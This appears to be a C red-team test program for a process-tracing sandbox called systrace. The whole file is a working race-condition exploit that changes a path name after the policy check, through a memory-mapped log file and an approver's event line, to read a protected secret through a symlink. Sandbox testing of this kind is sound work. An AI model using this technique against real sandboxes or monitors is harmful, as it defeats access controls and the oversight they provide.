/* evt_tail_open.c: a path in the tail of a file an approver writes when it hears of a process
 * event (red team 58).
 *
 * usage: evt_tail_open ERR SECRET TRIES START      (cwd: a directory the program may write)
 *
 * An approver (`--ask-via`) may ask for process events ({"type": "events", "process": true});
 * systrace then sends it a line at each fork, exec and exit of the tree -- at times the tree
 * chooses, from a thread of its own -- and an approver that keeps a record of what it hears
 * writes it, say, to its stderr: systrace's, often a file (a CI's log) the tree may read.
 * The program pads that file so that it ends ROOM bytes before a page's end with a name of
 * TAIL bytes, maps its last page (MAP_PRIVATE, read-only: a clean page shows each append)
 * with an anonymous page after it, makes a child that exits, reaps it and opens the name
 * there: alone again, its path is not held; the exit's line (START: `{"type":"process",...`)
 * lands while the tracer decides the open, and the kernel reads the name with the line's
 * first ROOM bytes: a symlink to SECRET.  Each try waits a little longer before its open.
 *
 * NATIVE=1 (the control): the program appends START itself after the child's reaping.
 *
 * REFUSED=PATH (review 38): after the reaping the program opens PATH, which the policy
 * refuses: under -v the tracer says so on its stderr -- a line START begins -- and a reader
 * of that stderr (a pipe to `tee`, a collector) copies it into ERR when it wakes, while the
 * tracer decides the open of the name.
 *
 * ESCAPED: an open gave the secret; BLOCKED: never.
 */
#include "attack.h"

#include <sys/mman.h>
#include <sys/wait.h>

#define TAIL 3
#define ROOM 12

static off_t file_size(int fd) {
    struct stat st;
    if (fstat(fd, &st) != 0)
        blocked("fstat of the stderr file: %s", ename(errno));
    return st.st_size;
}

/* wait (up to ~1 s) for the file to stop growing for 4 ms (the approver's lines of earlier events) */
static off_t settled_size(int fd) {
    off_t size = file_size(fd);
    for (int quiet = 0, n = 0; quiet < 4 && n < 1000; n++) {
        usleep(1000);
        off_t now = file_size(fd);
        quiet = now == size ? quiet + 1 : 0;
        size = now;
    }
    return size;
}

int main(int argc, char **argv) {
    if (argc < 5) {
        fprintf(stderr, "usage: %s ERR SECRET TRIES START\n", argv[0]);
        return 2;
    }
    const char *err_path = argv[1], *secret = argv[2], *start = argv[4];
    int tries = atoi(argv[3]);
    int native = getenv("NATIVE") != NULL;
    const char *refused = getenv("REFUSED");
    int fd = open(err_path, O_RDONLY | O_CLOEXEC);
    int w = open(err_path, O_WRONLY | O_APPEND | O_CLOEXEC);
    if (fd < 0 || w < 0)
        blocked("open of the stderr file: %s", ename(errno));
    long page = sysconf(_SC_PAGESIZE);
    char *area = mmap(NULL, 2 * page, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (area == MAP_FAILED)
        blocked("mmap: %s", ename(errno));
    int attempts = 0, decoys = 0;
    long lo = 0, hi = native ? 0 : -1;
    srandom((unsigned)getpid());
    for (int n = 0; n < tries * 3 && attempts < tries; n++) {
        int go[2];
        if (pipe(go) != 0)
            blocked("pipe: %s", ename(errno));
        pid_t child = fork();
        if (child < 0)
            blocked("fork: %s", ename(errno));
        if (child == 0) {
            char c;
            close(go[1]);
            (void)!read(go[0], &c, 1);
            _exit(0);
        }
        close(go[0]);
        char tail[TAIL + 1];
        snprintf(tail, sizeof tail, "k%02d", n % 100);
        off_t size = settled_size(fd);  /* (the fork's line in) */
        off_t end = (size / page + 1) * page - ROOM;
        if (end - size < TAIL + 1)
            end += page;
        static char padding[3 * 4096];
        size_t len = (size_t)(end - size);
        if (len > sizeof padding)
            blocked("a page larger than 4 KiB");
        memset(padding, 'x', len);
        padding[len - TAIL - 1] = '\n';
        memcpy(padding + len - TAIL, tail, TAIL);
        char longer[64];
        snprintf(longer, sizeof longer, "%s%.*s", tail, ROOM, start);
        unlink(tail);
        unlink(longer);
        int decoy = open(tail, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
        if (decoy < 0 || write(decoy, "decoy\n", 6) != 6)
            blocked("the decoy: %s", ename(errno));
        close(decoy);
        if (symlink(secret, longer) != 0)
            blocked("symlink: %s", ename(errno));
        if (write(w, padding, len) != (ssize_t)len)
            blocked("write of the stderr file: %s", ename(errno));
        if (file_size(fd) != end) {
            close(go[1]);
            waitpid(child, NULL, 0);
            continue;
        }
        attempts++;
        off_t used = end % page;
        if (mmap(area, page, PROT_READ, MAP_PRIVATE | MAP_FIXED, fd, end - used) == MAP_FAILED)
            blocked("mmap of the stderr file: %s", ename(errno));
        close(go[1]);
        waitpid(child, NULL, 0);
        if (refused != NULL)  /* (its refusal's line: START) */
            close(open(refused, O_RDONLY | O_CLOEXEC));
        if (native && write(w, start, strlen(start)) != (ssize_t)strlen(start))
            blocked("write of the stderr file: %s", ename(errno));
        /* when to open: between the longest wait whose open came before the line (the
         * decoy) and the shortest whose open came after it (its path refused) */
        struct timespec t0, t1;
        clock_gettime(CLOCK_MONOTONIC, &t0);
        long wait_ns = hi < 0 ? lo + 40000L : lo + (long)(random() % (hi - lo + 1));
        if (lo == 0 && hi < 0 && attempts == 1)
            wait_ns = 0;
        do
            clock_gettime(CLOCK_MONOTONIC, &t1);
        while ((t1.tv_sec - t0.tv_sec) * 1000000000L + (t1.tv_nsec - t0.tv_nsec) < wait_ns);
        int got = open(area + used - TAIL, O_RDONLY | O_CLOEXEC);
        int e = errno;
        if (got >= 0) {
            char buf[256] = {0};
            ssize_t r = read(got, buf, sizeof buf - 1);
            close(got);
            if (r > 0 && strstr(buf, SECRET_MAGIC))
                escaped("read the secret through the stderr file's last %d bytes and the first"
                        " %d of the approver's line (try %d)", TAIL, ROOM, attempts);
            decoys++;
            lo = wait_ns;
        } else {
            note("try %d (%ld us): open: %s", attempts, wait_ns / 1000, ename(e));
            if (e == EACCES)
                hi = wait_ns;
        }
        if (hi >= 0 && hi < lo)
            lo = 0, hi = -1;
        if (native && write(w, "\n", 1) != 1)
            blocked("write of the stderr file: %s", ename(errno));
        mmap(area, page, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
    }
    blocked("no open gave the secret (%d tries, %d the decoy)", attempts, decoys);
}
